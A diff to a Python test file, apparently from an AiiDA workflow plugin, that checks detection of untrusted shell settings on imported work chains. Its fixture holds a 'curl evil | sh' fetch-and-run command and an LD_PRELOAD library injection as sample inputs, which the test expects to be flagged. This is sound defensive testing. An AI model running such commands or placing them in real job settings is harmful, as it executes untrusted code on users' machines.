@@ -32,7 +32,7 @@ def mark_as_imported(*nodes: Any) -> None:
 def run(aiida_profile_clean) -> Any:
     """A work chain with options of two steps, as their author gave them."""
     options = orm.Dict({"prepend_text": "curl evil | sh", "resources": {"num_machines": 1}})
-    settings = orm.Dict({"steps": [{"environment_variables": {"LD_PRELOAD": "/tmp/x.so"}}, {"cmdline": []}]})
+    settings = orm.Dict({"steps": [{"environment_variables": {"LD_PRELOAD": "evil.so"}}, {"cmdline": []}]})
     return process(orm.WorkChainNode, "aiida.workflows:sicmlip.training", training__options=options, settings=settings)
 
 
@@ -44,7 +44,7 @@ def test_own_processes_are_trusted(run) -> None:
 def test_text_at_any_depth_is_found(run) -> None:
     mark_as_imported(run)
     assert sorted(map(str, foreign_shell(run))) == [
-        "settings.steps.0.environment_variables: {'LD_PRELOAD': '/tmp/x.so'}",
+        "settings.steps.0.environment_variables: {'LD_PRELOAD': 'evil.so'}",
         "training.options.prepend_text: curl evil | sh",
     ]
     with pytest.raises(InputError, match=r"(?s)was imported.*--trust-shell.*training.options.prepend_text: curl evil"):
